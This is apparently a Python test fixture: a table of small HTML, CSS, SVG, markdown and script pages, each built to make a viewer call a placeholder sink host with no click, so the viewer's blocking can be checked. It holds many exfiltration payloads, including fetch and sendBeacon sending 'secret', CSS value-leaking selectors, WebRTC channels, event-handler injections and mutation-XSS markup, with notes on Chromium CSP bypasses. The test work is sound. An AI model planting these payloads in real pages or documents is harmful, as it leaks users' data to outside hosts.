"""Pages that call out without a click: the table that the viewer is tried with, a row a technique.

`HOST` in a page becomes a name of the test's sink that belongs to this row and this way of showing it alone, so a name
looked up, a connection opened or a request sent says which page did it.
"""

from exfiltration_rare import NOT_IN_THIS_BROWSER, RARE
from pages import Page, script, style

_LOADS = (
    Page("img src", "<img src=http://HOST/x.png>"),
    Page("img srcset", '<img srcset="http://HOST/x.png 1x, http://HOST/y.png 2x">'),
    Page("picture source", "<picture><source srcset=http://HOST/x.webp><img></picture>"),
    Page("input type=image", "<input type=image src=http://HOST/x.png>"),
    Page("body background", "<body background=http://HOST/x.png>text"),
    Page("table background", "<table background=http://HOST/x.png><tr><td>text</table>"),
    Page("base and a relative image", "<base href=http://HOST/><img src=x.png>"),
    Page("video poster", "<video poster=http://HOST/x.png></video>"),
    Page("video src", "<video src=http://HOST/x.mp4 preload=auto></video>"),
    Page("audio source", "<audio preload=auto><source src=http://HOST/x.mp3></audio>"),
    Page("object data", "<object data=http://HOST/x></object>"),
    Page("embed src", "<embed src=http://HOST/x type=text/html>"),
    Page("iframe src", "<iframe src=http://HOST/></iframe>"),
    Page("iframe nested three deep", "<iframe srcdoc=\"<iframe srcdoc='<img src=http://HOST/x>'></iframe>\"></iframe>"),
    Page("iframe of a data URL", '<iframe src="data:text/html,<img src=http://HOST/x>"></iframe>'),
    Page("iframe of a javascript URL", "<iframe src=\"javascript:'<img src=http://HOST/x>'\"></iframe>"),
    Page("frameset", "<frameset><frame src=http://HOST/></frameset>"),
    Page("declarative shadow root", "<p><template shadowrootmode=open><img src=http://HOST/x></template></p>"),
    Page("markdown image", "![loading](http://HOST/x.png?q=secret)", "text/markdown"),
    Page("raw HTML in markdown", "Text.\n\n<img src=http://HOST/x.png>\n", "text/markdown"),
)
_STYLES = (
    Page("style attribute", '<p style="background:url(http://HOST/x.png)">text'),
    Page("stylesheet link", "<link rel=stylesheet href=http://HOST/x.css>"),
    Page("alternate stylesheet link", '<link rel="alternate stylesheet" title=x href=http://HOST/x.css>'),
    style("@import", "@import url(http://HOST/x.css);"),
    style("@import in a layer", "@import 'http://HOST/x.css' layer(x) supports(display: grid);"),
    style("@font-face", "@font-face {font-family: x; src: url(http://HOST/x.woff2)} p {font-family: x}"),
    style(
        "font that loads for one letter of the text",
        "@font-face {font-family: x; src: url(http://HOST/t.woff2); unicode-range: U+0074} p {font-family: x}",
    ),
    style("attribute selector that reads a value", "input[value^=s] {background: url(http://HOST/starts-with-s)}"),
    style("content", "p::before {content: url(http://HOST/x.png)}"),
    style("list-style-image", "p {display: list-item; list-style-image: url(http://HOST/x.png)}"),
    style("border-image", "p {border: 9px solid; border-image-source: url(http://HOST/x.png)}"),
    style("mask", "p {mask-image: url(http://HOST/x.svg)}"),
    style("image-set", "p {background: image-set('http://HOST/x.png' 1x)}"),
    style("custom property", "p {--u: url(http://HOST/x.png); background: var(--u)}"),
    style(
        "delayed by an animation",
        "@keyframes k {from {background: none} to {background: url(http://HOST/x.png)}}"
        "p {animation: k 0.2s 0.3s forwards}",
    ),
    style("container query", "body {container-type: inline-size} @container (width > 0px) "
           "{p {background: url(http://HOST/x.png)}}"),
)  # fmt: skip
_SCRIPTS = (
    Page("script src", "<script src=http://HOST/x.js></script>"),
    Page("module script", "<script type=module>import 'http://HOST/x.js'</script>"),
    Page(
        "import map",
        '<script type=importmap>{"imports": {"x": "http://HOST/x.js"}}</script>'
        "<script type=module>import 'x'</script>",
    ),
    script("dynamic import", "import('http://HOST/x.js')"),
    script("fetch", "fetch('http://HOST/', {method: 'POST', body: 'secret', mode: 'no-cors'})"),
    script("fetch that outlives the page", "fetch('http://HOST/', {keepalive: true, mode: 'no-cors'})"),
    script("XMLHttpRequest", "x = new XMLHttpRequest(); x.open('GET', 'http://HOST/'); x.send()"),
    script("beacon", "navigator.sendBeacon('http://HOST/', 'secret')"),
    script("image object", "new Image().src = 'http://HOST/secret'"),
    script("EventSource", "new EventSource('http://HOST/')"),
    script("WebSocket", "new WebSocket('ws://HOST/')"),
    script("WebTransport", "new WebTransport('https://HOST/')"),
    script(
        "WebRTC by STUN",
        "p = new RTCPeerConnection({iceServers: [{urls: 'stun:HOST:3478'}]});"
        "p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o))",
    ),
    script(
        "WebRTC by TURN over TCP",
        "p = new RTCPeerConnection({iceServers: [{urls: 'turn:HOST:443?transport=tcp',"
        " username: 'secret', credential: 'x'}]});"
        "p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o))",
    ),
    script(
        "worker of a blob",
        "new Worker(URL.createObjectURL(new Blob([\"fetch('http://HOST/', {mode: 'no-cors'})\"])))",
    ),
    script("shared worker", "new SharedWorker(\"data:text/javascript,fetch('http://HOST/', {mode: 'no-cors'})\")"),
    script(
        "service worker",
        "navigator.serviceWorker.register('worker.js')",
        files={"worker.js": ("text/javascript", "fetch('http://HOST/', {mode: 'no-cors'})")},
    ),
    script("audio worklet", "new AudioContext().audioWorklet.addModule('http://HOST/x.js')"),
    script("paint worklet", "CSS.paintWorklet.addModule('http://HOST/x.js')"),
    script(
        "iframe of a blob",
        "f = document.createElement('iframe'); document.body.append(f);"
        "f.src = URL.createObjectURL(new Blob(['<img src=http://HOST/x>'], {type: 'text/html'}))",
    ),
    script(
        "view transition",
        "s = document.createElement('style'); document.head.append(s);"
        "s.textContent = '::view-transition {background: url(http://HOST/x.png)}';"
        "go = () => document.startViewTransition(() => {}); go(); setInterval(go, 800)",  # a busy browser skips some
    ),
    script("constructed stylesheet", "s = new CSSStyleSheet(); s.replaceSync("
            "'body {background: url(http://HOST/x.png)}'); document.adoptedStyleSheets = [s]"),
    Page("image error handler", "<img src=data:, onerror=\"fetch('http://HOST/')\">"),
    Page("details toggle handler", "<details open ontoggle=\"fetch('http://HOST/')\">x</details>"),
    Page("autofocus handler", "<input autofocus onfocus=\"fetch('http://HOST/')\">"),
    Page(
        "animation handler",
        "<style>@keyframes k {}</style><p style='animation: k 1ms' onanimationstart=\"fetch('http://HOST/')\">x",
    ),
)  # fmt: skip
_NAVIGATIONS = (
    Page("meta refresh", '<meta http-equiv=refresh content="0; url=http://HOST/?secret">'),
    Page("Refresh header", "text", headers={"Refresh": "0; url=http://HOST/?secret"}),
    script("location", "location = 'http://HOST/?secret'"),
    script("window.open of a blank window", "open().location = 'http://HOST/'"),
    script("click on a link by script", "a = document.createElement('a'); a.href = 'http://HOST/'; a.click()"),
    script(
        "ping of a link",
        "a = document.createElement('a'); a.href = '#x'; a.ping = 'http://HOST/'; a.click()",
    ),
    Page("form sent by script", "<form action=http://HOST/ method=post><input name=q value=secret></form>"
         "<script>document.forms[0].submit()</script>"),
    Page("form to a new window", "<form action=http://HOST/ target=_blank><input name=q></form>"
         "<script>document.forms[0].submit()</script>"),
    Page("navigation of the top from a frame", "<iframe srcdoc=\"<script>top.location = 'http://HOST/'</script>\">"
         "</iframe>"),
)  # fmt: skip
_HINTS = (
    Page("dns-prefetch", "<link rel=dns-prefetch href=http://HOST/>"),
    Page("preconnect", "<link rel=preconnect href=http://HOST/>"),
    Page("prefetch", "<link rel=prefetch href=http://HOST/x>"),
    Page("preload", "<link rel=preload as=image href=http://HOST/x.png>"),
    Page("preload with imagesrcset", '<link rel=preload as=image imagesrcset="http://HOST/x.png 1x">'),
    Page("modulepreload", "<link rel=modulepreload href=http://HOST/x.js>"),
    Page("Link header: preload", "text", headers={"Link": "<http://HOST/x.css>; rel=preload; as=style"}),
    Page(
        "speculation rules: prefetch",
        '<script type=speculationrules>{"prefetch": [{"source": "list", "urls": ["https://HOST/"],'
        ' "eagerness": "immediate"}]}</script>',
    ),
    Page(
        "Speculation-Rules header",
        "text",
        headers={"Speculation-Rules": '"rules.json"'},
        files={
            "rules.json": (
                "application/speculationrules+json",
                '{"prefetch": [{"source": "list", "urls": ["https://HOST/"], "eagerness": "immediate"}]}',
            )
        },
    ),
    Page(
        "violation report",
        "<img src=data:,>",
        headers={"Content-Security-Policy": "img-src 'none'; report-uri http://HOST/secret"},
    ),
)
_OTHER_LANGUAGES = (
    Page("inline SVG image", "<svg><image href=http://HOST/x.png width=9 height=9 /></svg>"),
    Page("inline SVG feImage", "<svg><filter id=f><feImage href=http://HOST/x.png /></filter>"
         "<rect width=9 height=9 filter=url(#f) /></svg>"),
    Page("inline SVG set", "<svg><image width=9 height=9><set attributeName=href to=http://HOST/x.png /></image>"),
    Page("inline SVG foreignObject", "<svg><foreignObject width=9 height=9><img src=http://HOST/x></foreignObject>"),
    Page("inline SVG onload", "<svg onload=\"fetch('http://HOST/')\"></svg>"),
    Page("inline SVG style", "<svg><style>@import 'http://HOST/x.css';</style></svg>"),
    Page("SVG document with an image",
         '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://HOST/x.png" width="9" height="9"/></svg>',
         "image/svg+xml"),
    Page("SVG document with a script",
         '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("http://HOST/")</script></svg>', "image/svg+xml"),
    Page("SVG document with a stylesheet instruction",
         '<?xml-stylesheet href="http://HOST/x.css"?><svg xmlns="http://www.w3.org/2000/svg"/>', "image/svg+xml"),
    Page("MathML around an image", "<math><mtext><img src=http://HOST/x></mtext></math>"),
    Page("markup that mutates when parsed again",
         '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=http://HOST/x&gt;">'
         "<img src=http://HOST/y>"),
)  # fmt: skip

CLICKED = Page("link that the reader clicks", "<a href=http://HOST/?secret><h1>Click here</h1></a>")
BEYOND_THE_POLICY = ("iframe src", "frameset", "dns-prefetch", "preconnect")
"""Chromium looks up or connects for these before it asks the content security policy."""
BEYOND_THE_ALLOWLIST = ("stylesheet link", "@import", "script src", "module script")
"""Chromium's preload scanner looks these up, now and then, before it asks the connection allowlist."""
PAGES: tuple[Page, ...] = _LOADS + _STYLES + _SCRIPTS + _NAVIGATIONS + _HINTS + _OTHER_LANGUAGES + RARE
TRIED: tuple[Page, ...] = PAGES + NOT_IN_THIS_BROWSER
